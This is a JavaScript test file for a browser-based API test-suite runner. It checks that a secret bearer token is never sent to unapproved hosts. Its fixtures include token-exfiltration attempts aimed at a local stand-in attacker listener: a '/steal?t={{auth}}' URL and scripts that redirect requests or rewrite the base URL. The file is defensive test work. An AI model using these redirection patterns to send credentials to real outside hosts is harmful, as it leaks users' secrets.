// A suite must not send the tester's token to a host they did not approve (issue #17, item 2):
// a step URL that names another host, a pre-request script that moves a request, an initial
// script that changes the base URL. A listener on another 127.0.0.1 port stands for the
// attacker: it must hear nothing. The plan names each host before the run, and ticking one
// is what lets it receive secrets.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import { axeViolations, fillVariables, launchBrowser, serveDist, withPage } from './harness.mjs';

const TOKEN = 'Bearer hosts-SECRET-7731';
let site, target, listener, browser;

/** A server that answers every request, CORS open; `heard` lists what reached it. */
async function start() {
  const heard = [];
  const server = createServer((req, res) => {
    const cors = { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*', 'Access-Control-Allow-Methods': '*' };
    if (req.method !== 'OPTIONS') heard.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''}`);
    if (req.method === 'OPTIONS') return res.writeHead(204, cors).end();
    res.writeHead(200, { ...cors, 'Content-Type': 'application/json' }).end('{}');
  });
  await new Promise((ok) => server.listen(0, '127.0.0.1', ok));
  return { url: `http://127.0.0.1:${server.address().port}`, heard, close: () => server.close() };
}

before(async () => {
  [site, target, listener, browser] = await Promise.all([serveDist(), start(), start(), launchBrowser()]);
});
after(async () => {
  await browser?.close();
  target?.close();
  listener?.close();
  await site?.close();
});

const request = (note, url, extra = {}) => ({
  step_type: 'request',
  note,
  method: 'GET',
  url,
  headers: { Authorization: ['{{auth}}'] },
  ...extra,
});

async function load(page, name, steps, initialScript = '') {
  await page.getByText('Paste suite JSON').click();
  await page.getByLabel('Suite JSON').fill(JSON.stringify({ name, steps }));
  await page.getByRole('button', { name: 'Load pasted JSON' }).click();
  await page.getByRole('heading', { name }).waitFor();
  const base = (await page.getByLabel('base', { exact: true }).count()) > 0;
  await fillVariables(page, base ? { base: target.url, auth: TOKEN } : { auth: TOKEN });
  if (initialScript) await page.getByLabel('Initial script').fill(initialScript);
}

async function run(page) {
  await page.getByLabel('Skip pauses').check();
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await page.locator('main[data-run-state="done"]').waitFor({ timeout: 60_000 });
}

const outcome = (page, note) => page.locator('li.step', { has: page.getByText(note, { exact: true }) }).getAttribute('data-outcome');

test('a step that names another host: listed before the run, not sent', async () => {
  listener.heard.length = 0;
  await withPage(browser, 'other host in url', site.url, async (page) => {
    await load(page, 'Other host', [
      request('to the server', '{{base}}/ok'),
      request('to the attacker', `${listener.url}/steal?t={{auth}}`),
    ]);
    const rows = page.locator('.hosts-table tbody tr');
    assert.equal(await rows.count(), 2);
    const attacker = rows.filter({ hasText: listener.url });
    assert.equal(await attacker.getAttribute('data-approval'), 'notapproved');
    assert.match(await attacker.textContent(), /auth/);
    assert.match(await page.locator('.warn-hosts').textContent(), new RegExp(`carry a secret to ${listener.url} will not be sent`));
    assert.equal(await rows.filter({ hasText: target.url }).getAttribute('data-approval'), 'typedbyyou');
    assert.deepEqual(await axeViolations(page), []);
    await run(page);
    assert.equal(await outcome(page, 'to the server'), 'pass');
    assert.equal(await outcome(page, 'to the attacker'), 'error');
    const reason = page.locator('li.step', { hasText: 'to the attacker' }).locator('.step-reason');
    assert.equal(await reason.textContent(), 'Not sent: a secret for a host you did not approve');
  });
  assert.deepEqual(listener.heard, []);
  assert.ok(target.heard.some((h) => h.includes(TOKEN)), 'the approved server got its request');
});

test('a pre-request script that moves a request, and an initial script that moves the base URL', async () => {
  listener.heard.length = 0;
  await withPage(browser, 'scripts move requests', site.url, async (page) => {
    await load(
      page,
      'Scripts move requests',
      [
        request('moved by a script', '{{base}}/ok', {
          before_scripts: [`request.url = '${listener.url}/moved';`],
        }),
        request('after the base URL changed', '{{SCIMBaseURL}}/Users'),
      ],
      `variables.set('SCIMBaseURL', '${listener.url}');`,
    );
    await run(page);
    assert.equal(await outcome(page, 'moved by a script'), 'error');
    assert.equal(await outcome(page, 'after the base URL changed'), 'error');
  });
  assert.deepEqual(listener.heard, []);
});

test('ticking a host is what lets it receive secrets', async () => {
  listener.heard.length = 0;
  await withPage(browser, 'approve a host', site.url, async (page) => {
    await load(page, 'Approve', [request('to the second server', `${listener.url}/fine`)]);
    await page.getByLabel(`Allow ${listener.url} to receive secrets`).check();
    assert.equal(await page.locator('.warn-hosts').count(), 0);
    await run(page);
    assert.equal(await outcome(page, 'to the second server'), 'pass');
  });
  assert.equal(listener.heard.length, 1, 'the positive control: the listener does count requests');
  assert.ok(listener.heard[0].includes(TOKEN));
});
